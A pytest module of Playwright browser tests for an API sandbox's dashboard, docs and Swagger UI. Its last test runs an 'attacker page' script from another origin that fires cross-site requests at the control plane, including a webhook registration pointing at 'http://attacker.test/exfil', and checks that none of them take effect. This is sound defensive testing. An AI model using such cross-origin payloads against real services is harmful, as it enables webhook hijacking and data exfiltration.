"""The dashboard and docs end to end in headless Chromium (Debian's ``chromium``, driven by Playwright).

Against a real server on a free port with the registered APIs plus the test-only ``fakeshop`` (which has
transition routes). ``.ci/run`` installs the browser, so under CI (``CI`` set) a missing one is a failure;
on a developer's machine without it the module is skipped, with the reason in pytest's summary.

The screenshot goes to pytest's tmp_path; ``SANDBOX_UPDATE_SCREENSHOT=1`` also copies it to
``docs/dashboard.png`` (not on every run: the port and journal times would change a tracked file).
"""

from __future__ import annotations

import json
import os
import re
import shutil
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from sandbox.pytest_plugin import SandboxServer
from tests import fake_api
from tests.conftest import APIS, api_specs

CHROMIUM = os.environ.get("SANDBOX_TEST_CHROMIUM", "/usr/bin/chromium")
# No network here but the package registries: keep Chromium from reaching for anything on its own.
CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                 "--disable-background-networking", "--disable-component-update", "--disable-sync"]
SCREENSHOT_COPY = Path(__file__).resolve().parent.parent / "docs" / "dashboard.png"
SCREENSHOT_COPY_LIMIT = 400_000     # bytes: a larger picture is not worth keeping in the repository
PER_PAGE = 4                        # a few orders per API: the whole page fits one readable picture
HAS_CHROMIUM = os.path.isfile(CHROMIUM) and os.access(CHROMIUM, os.X_OK)
NO_CHROMIUM = f"no Chromium at {CHROMIUM}: install Debian's 'chromium' package (.ci/run does) to run the browser test"

pytestmark = pytest.mark.skipif(not HAS_CHROMIUM and not os.environ.get("CI"), reason=NO_CHROMIUM)


@pytest.fixture(scope="module")
def browser():
    if not HAS_CHROMIUM:            # only under CI, where .ci/run should have installed it
        pytest.fail(NO_CHROMIUM)
    from playwright import sync_api   # the dev extra installs it

    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        yield browser
        browser.close()


@pytest.fixture(scope="module")
def server():
    server = SandboxServer({"APIS": (*APIS, fake_api.NAME)})
    yield server
    server.stop()


@pytest.fixture
def page(browser, server):
    server.app.extensions["sandbox"].store.reset()
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    page = context.new_page()
    page.set_default_timeout(15_000)
    errors = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    yield page
    context.close()
    assert not errors, errors


def press_and_reload(page, button):
    """Press a button that changes state: the page reloads and shows the response it carried over."""
    with page.expect_navigation():
        button.click()
    page.wait_for_selector("#result:not([hidden])")


def order_row(page, api, order_id):
    return page.locator(f'#api-{api} tr.order[data-id="{order_id}"]')


def test_dashboard_shows_apis_orders_json_transitions_and_reset(page, server, tmp_path):
    page.goto(server.base_url + f"/__sandbox/?per_page={PER_PAGE}")
    for spec in api_specs():
        section = page.locator(f"#api-{spec.name}")
        assert section.locator("h2").inner_text() == spec.title
        assert section.locator("code.base-url").inner_text() == server.url(spec.name)
        assert section.locator("tr.order").count() == PER_PAGE

    # open an order's JSON
    row = order_row(page, "appx", 150)
    row.locator("button.show-json").click()
    shown = json.loads(row.locator("xpath=following-sibling::tr[1]").locator("pre").inner_text())
    assert shown["id"] == 150 and shown["order_status"] == row.locator("td.status").inner_text()

    # the GET button calls the real route with the API's auth headers and shows the wire format
    row.locator("button.action", has_text="GET").click()
    page.wait_for_selector("#result:not([hidden])")
    assert page.locator("#result-status").inner_text() == "200"
    assert json.loads(page.locator("#result-body").inner_text())["data"]["id"] == 150

    # a transition: the button posts to the real route, the page reloads with the new status
    assert order_row(page, "fakeshop", 30).locator("td.status").inner_text() == "pending"
    press_and_reload(page, order_row(page, "fakeshop", 30).locator("button.transition", has_text="pay"))
    assert page.locator("#result-label").inner_text() == "POST /fakeshop/v1/orders/30/pay"
    assert page.locator("#result-status").inner_text() == "200"
    assert order_row(page, "fakeshop", 30).locator("td.status").inner_text() == "paid"
    journal = page.locator("#journal tr.request").first
    assert "POST /fakeshop/v1/orders/30/pay" in journal.inner_text()

    screenshot = tmp_path / "dashboard.png"
    order_row(page, "mittwald", shown_id := page.locator("#api-mittwald tr.order").first.get_attribute("data-id")) \
        .locator("button.show-json").click()
    assert json.loads(page.locator("#api-mittwald tr.order-json pre").first.inner_text())["id"] == shown_id
    page.screenshot(path=str(screenshot), full_page=True)
    assert screenshot.stat().st_size > 10_000
    if os.environ.get("SANDBOX_UPDATE_SCREENSHOT") and screenshot.stat().st_size <= SCREENSHOT_COPY_LIMIT:
        shutil.copyfile(screenshot, SCREENSHOT_COPY)

    # a refused transition shows the API's own error
    press_and_reload(page, order_row(page, "fakeshop", 29).locator("button.transition", has_text="pay"))
    assert page.locator("#result-status").inner_text() == "409"
    assert "Cannot move from 'cancelled' to 'paid'" in page.locator("#result-body").inner_text()

    # reset: back to the seeded status, and the control plane said so
    press_and_reload(page, page.locator('button[data-reset="fakeshop"]'))
    assert json.loads(page.locator("#result-body").inner_text())["reset"] == ["fakeshop"]
    assert order_row(page, "fakeshop", 30).locator("td.status").inner_text() == "pending"


def test_dashboard_pages_one_api_and_keeps_the_session(page, server):
    server.app.extensions["sandbox"].store.state("fakeshop", "browser-job")   # a client's first request makes it
    page.goto(server.base_url + "/__sandbox/?session=browser-job")
    assert page.locator(".top .session code").inner_text() == "browser-job"
    press_and_reload(page, order_row(page, "fakeshop", 30).locator("button.transition", has_text="cancel"))
    assert page.locator("#result-status").inner_text() == "200"
    assert order_row(page, "fakeshop", 30).locator("td.status").inner_text() == "cancelled"
    state = server.app.extensions["sandbox"].store
    assert state.state("fakeshop", "browser-job")["orders"].get(30)["state"] == "cancelled"
    assert state.state("fakeshop")["orders"].get(30)["state"] == "pending"

    page.locator("#api-formations .pager a").click()
    assert re.search(r"api=formations", page.url) and "session=browser-job" in page.url
    page.locator('#api-formations a[rel="next"]').click()
    assert "page 2 of" in page.locator("#api-formations .pager").inner_text()


def test_docs_list_the_apis_and_swagger_ui_renders_offline(page, server):
    page.goto(server.base_url + "/__sandbox/docs")
    for spec in api_specs():
        section = page.locator(f"#doc-{spec.name}")
        assert server.url(spec.name) in section.locator("pre.curl").inner_text()

    # No spec served: a clear notice (forced, so this holds once the real specs exist too).
    page.route("**/appx/openapi.json", lambda route: route.fulfill(status=404, body="{}"))
    page.locator("#doc-appx a.swagger").click()
    page.wait_for_selector("#no-spec:not([hidden])")
    assert "No spec yet" in page.locator("#no-spec").inner_text()

    # A spec: Swagger UI, from the packaged assets, renders it.
    spec = {"openapi": "3.0.3", "info": {"title": "Sandbox control plane", "version": "1"},
            "paths": {"/__sandbox/health": {"get": {"responses": {"200": {"description": "ready"}}}}}}
    page.route("**/__sandbox/openapi.json", lambda route: route.fulfill(status=200, json=spec))
    page.goto(server.base_url + "/__sandbox/docs/control-plane")
    page.wait_for_selector(".swagger-ui .info .title")
    assert "Sandbox control plane" in page.locator(".swagger-ui .info .title").inner_text()
    assert page.locator(".opblock-summary-path").first.inner_text().endswith("/__sandbox/health")


ATTACKS = """async (base) => {
  const tried = {};
  const attempt = async (name, url, init) => {
    try { const r = await fetch(base + url, init); tried[name] = r.type === "opaque" ? "opaque" : r.status; }
    catch (error) { tried[name] = "blocked"; }
  };
  await attempt("read state", "/__sandbox/state", {});
  await attempt("reset", "/__sandbox/reset", {method: "POST", mode: "no-cors"});
  await attempt("webhook text/plain", "/__sandbox/webhooks", {method: "POST", mode: "no-cors",
    headers: {"Content-Type": "text/plain"}, body: JSON.stringify({api: "slyk", url: "http://attacker.test/exfil"})});
  await attempt("fault untyped blob", "/__sandbox/faults", {method: "POST", mode: "no-cors",
    body: new Blob([JSON.stringify({api: "*", status: 503})])});
  await attempt("fault as JSON", "/__sandbox/faults", {method: "POST", headers: {"Content-Type": "application/json"},
    body: JSON.stringify({api: "*", status: 503})});
  await attempt("an API", "/appx/api/v1/orders/15", {headers: {"Authorization": "Bearer page"}});
  return tried;
}"""


class AttackerPage(BaseHTTPRequestHandler):
    def do_GET(self):
        body = b"<!doctype html><title>elsewhere</title>"
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


def test_a_page_of_another_origin_can_call_the_apis_but_not_steer_the_sandbox(browser, server):
    """What the issue tried as an attacker's page, in a real browser: nothing it sends changes the sandbox."""
    box = server.app.extensions["sandbox"]
    box.store.reset()
    # A real server on loopback (a page Playwright's route() made up counts as public, and Chromium's local
    # network protection alone would block it, hiding what the sandbox does); localhost is another origin
    # than the sandbox's 127.0.0.1.
    elsewhere = ThreadingHTTPServer(("127.0.0.1", 0), AttackerPage)
    threading.Thread(target=elsewhere.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
    context = browser.new_context()
    try:
        page = context.new_page()
        page.goto(f"http://localhost:{elsewhere.server_address[1]}/")
        tried = page.evaluate(ATTACKS, server.base_url)
    finally:
        context.close()
        elsewhere.shutdown()
        elsewhere.server_close()
    assert tried["an API"] == 200, tried                 # the APIs keep CORS for every page
    assert tried["read state"] == "blocked" and tried["fault as JSON"] == "blocked", tried
    assert box.webhooks.subscriptions("default") == [] and box.faults.rules("default") == [], tried
    assert [entry.path for entry in box.journal.entries("default")][-1] == "/appx/api/v1/orders/15"
